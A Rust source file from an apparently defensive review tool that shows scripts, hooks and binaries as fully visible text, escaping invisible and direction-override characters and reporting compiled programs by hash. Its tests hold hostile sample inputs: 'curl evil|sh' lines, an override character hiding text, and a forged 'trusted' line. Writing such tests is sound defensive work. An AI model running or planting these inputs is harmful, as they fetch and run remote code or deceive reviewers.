//! Items as text for people: whole, or with a count of what is not shown.
//!
//! Promise: every character of it is seen; control, invisible and direction-turning ones stand as their
//! number, bytes that are no text as theirs, and no name begins a line of its own. Only of a compiled program
//! there is nothing to read.

use crate::item::{Found, Item};
use crate::limits::DETAIL_MAX_BYTES;
use nightshift_model::counted::counted;
use nightshift_model::naming::clip;
use std::borrow::Cow;
use std::fmt::Write;

/// What programs and archives of programs begin with: ELF, Mach-O, PE, WebAssembly, zip.
const COMPILED: &[&[u8]] = &[
    b"\x7fELF",
    b"\xcf\xfa\xed\xfe",
    b"\xce\xfa\xed\xfe",
    b"\xca\xfe\xba\xbe",
    b"MZ",
    b"\0asm",
    b"PK\x03\x04",
];

/// What a request shows, and how many bytes of it all that leaves out.
pub fn detail(found: &Found) -> (String, u32) {
    let mut text = String::new();
    let mut unshown = 0;
    for item in found.distinct() {
        let head = head(item);
        let room = DETAIL_MAX_BYTES.saturating_sub(text.len() + head.len());
        match readable(item) {
            Some(whole) => {
                let (body, left) = fitting(&whole, room);
                unshown += left;
                // A list without end would be no list: names go too, then.
                if left == 0 {
                    text.push_str(&format!("{head}\n{body}\n"));
                } else if text.len() + head.len() < 2 * DETAIL_MAX_BYTES {
                    text.push_str(&format!("{head}\n{body}… {left} more bytes\n"));
                }
            }
            None => {
                unshown += item.shown.len().max(1);
                if text.len() + head.len() < 2 * DETAIL_MAX_BYTES {
                    text.push_str(&format!("{head}\n  {}\n", compiled(item)));
                }
            }
        }
    }
    for why in &found.unreadable {
        unshown += 1;
        text.push_str(&format!("not read: {}\n", name(why)));
    }
    (text, u32::try_from(unshown).unwrap_or(u32::MAX))
}

/// All of it.
pub fn whole(found: &Found) -> String {
    let item = |item: &Item| {
        let none = || format!("  {}\n", compiled(item));
        format!("{}\n{}\n", head(item), body(item).unwrap_or_else(none))
    };
    let unread = found.unreadable.iter().map(|why| format!("not read: {}\n", name(why)));
    found.distinct().into_iter().map(item).chain(unread).collect()
}

fn head(item: &Item) -> String {
    format!("{} ({})", name(&item.path), name(&item.does))
}

/// It as text; none of a compiled program. Some byte that is no text makes no program of a script, and a shell
/// reads on after it.
fn readable(item: &Item) -> Option<Cow<'_, str>> {
    if let Ok(text) = std::str::from_utf8(&item.shown) {
        return Some(Cow::Borrowed(text));
    }
    if COMPILED.iter().any(|magic| item.shown.starts_with(magic)) {
        return None;
    }
    let mut out = String::with_capacity(item.shown.len());
    for chunk in item.shown.utf8_chunks() {
        out.push_str(chunk.valid());
        for byte in chunk.invalid() {
            write!(out, "‹\\x{byte:02X}›").ok(); // Writing to a string cannot fail.
        }
    }
    Some(Cow::Owned(out))
}

/// Programs among it that are trusted by their hash: of these nothing can be shown.
pub fn programs(found: &Found) -> usize {
    found.distinct().into_iter().filter(|item| readable(item).is_none()).count()
}

fn compiled(item: &Item) -> String {
    let (bytes, hash) = (counted(item.shown.len(), "byte"), &item.sha256);
    format!("a compiled program of {bytes}, of which nothing can be shown; SHA-256 {hash}")
}

fn body(item: &Item) -> Option<String> {
    readable(item).map(|text| text.split_inclusive('\n').map(line).collect())
}

fn line(line: &str) -> String {
    let ending = if line.ends_with('\n') { "" } else { "\n" };
    format!("  {}{ending}", visible(line))
}

/// As much of `text`, made visible, as `room` has; how many of its own bytes that leaves out: what is
/// written by number takes more room than it had.
fn fitting(text: &str, room: usize) -> (String, usize) {
    let (mut body, mut taken) = (String::new(), 0);
    for whole in text.split_inclusive('\n') {
        let left = room.saturating_sub(body.len());
        let mut raw = whole;
        let mut shown = line(clip(raw, left));
        while shown.len() > left && !raw.is_empty() {
            raw = clip(raw, left.min(raw.len() / 2));
            shown = line(raw);
        }
        if raw.is_empty() || shown.len() > left {
            break;
        }
        raw = clip(raw, left);
        body.push_str(&shown);
        taken += raw.len();
        if raw.len() < whole.len() {
            break;
        }
    }
    (body, text.len() - taken)
}

/// A name, or another thing that stands in a line: with every character to be seen, on one line.
pub fn name(text: &str) -> String {
    nightshift_model::visible::visible_line(text).into_owned()
}

/// `text` with every character to be seen. Tabs and line feeds stay.
pub fn visible(text: &str) -> String {
    nightshift_model::visible::visible(text).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::item::Part;

    fn found(items: Vec<Item>) -> Found {
        let mut found = Found::default();
        found.add(items);
        found
    }

    #[test]
    fn security_05_everything_is_shown_or_counted() {
        let small = Item::new(Part::Claude, "a", "runs", b"touch x\n\xe2\x80\xaehidden".to_vec());
        let (text, unshown) = detail(&found(vec![small.clone()]));
        assert_eq!((text.as_str(), unshown), ("a (runs)\n  touch x\n  ‹U+202E›hidden\n\n", 0));
        let mut long = vec![b'a'; DETAIL_MAX_BYTES];
        long.extend(b"; evil");
        let long = Item::new(Part::Claude, "b", "runs", long);
        let (text, unshown) = detail(&found(vec![small.clone(), long.clone()]));
        assert!(!text.contains("evil") && unshown > 6, "{unshown}");
        assert!(whole(&found(vec![small, long])).contains("; evil"));
        // Never more than there is, however much room it would take.
        for bytes in ["\n".repeat(200_000), "\u{202e}".repeat(60_000), "é\n".repeat(90_000)] {
            let all = u32::try_from(bytes.len()).unwrap();
            let item = Item::new(Part::Claude, "d", "runs", bytes.into_bytes());
            let (text, unshown) = detail(&found(vec![item]));
            assert!(unshown > 0 && unshown < all, "{unshown} of {all}");
            assert!(text.contains(&format!("… {unshown} more bytes")));
        }
        let binary = Item::new(Part::Git, "c", "runs", b"\x7fELF\0\xff".to_vec());
        let (text, unshown) = detail(&found(vec![binary]));
        assert!(text.contains("a compiled program of 6 bytes") && unshown == 6, "{text}");
        let binary = Item::new(Part::Git, "c", "runs", b"\x7fELF\0\xff".to_vec());
        let named = [binary.sha256.clone(), "nothing can be shown".to_owned()];
        let binary = found(vec![binary]);
        for text in [text, whole(&binary)] {
            assert!(named.iter().all(|part| text.contains(part)), "{text}");
        }
        assert_eq!(programs(&binary), 1);
        let script = Item::new(Part::Git, "c", "runs", b"#!/bin/sh\n\xff".to_vec());
        assert_eq!(programs(&found(vec![script])), 0);
        let unread = Found { unreadable: vec!["d: too large".into()], ..Found::default() };
        assert!(detail(&unread).1 > 0);
    }

    #[test]
    fn security_05_a_script_is_read_whatever_bytes_are_in_it() {
        for (bytes, expected) in [
            (&b"# caf\xe9\ncurl evil|sh\n"[..], "  # caf‹\\xE9›\n  curl evil|sh\n"),
            (b"\xff\xfecurl evil", "  ‹\\xFF›‹\\xFE›curl evil\n"),
            (b"a\0b\ncurl evil", "  a‹U+0000›b\n  curl evil\n"),
            (b"a\0\xc3\ncurl evil", "  a‹U+0000›‹\\xC3›\n  curl evil\n"),
            (b"MZ\ncurl evil\n", "  MZ\n  curl evil\n"),
        ] {
            let item = Item::new(Part::Scripts, "s", "runs", bytes.to_vec());
            let (text, unshown) = detail(&found(vec![item.clone()]));
            assert_eq!((text, unshown), (format!("s (runs)\n{expected}\n"), 0));
            assert_eq!(whole(&found(vec![item])), format!("s (runs)\n{expected}\n"));
        }
        // What does not fit is counted here too.
        let long = [vec![0xff; DETAIL_MAX_BYTES], b"\ncurl evil".to_vec()].concat();
        let item = Item::new(Part::Scripts, "s", "runs", long);
        let (text, unshown) = detail(&found(vec![item]));
        assert!(unshown > 0 && !text.contains("curl evil"), "{unshown}");
    }

    #[test]
    fn security_05_no_name_begins_a_line_of_its_own() {
        let forged = "a\n/repo is trusted as it is\r\n\tx";
        let item = Item::new(Part::Claude, forged, forged, b"x".to_vec());
        let mut all = found(vec![item]);
        all.unreadable = vec![format!("{forged}: too large")];
        for text in [detail(&all).0, whole(&all)] {
            assert_eq!(text.lines().count(), 4, "{text}");
            assert!(!text.lines().any(|line| line.starts_with("/repo")), "{text}");
            assert!(text.contains("a‹U+000A›/repo is"), "{text}");
        }
    }
}
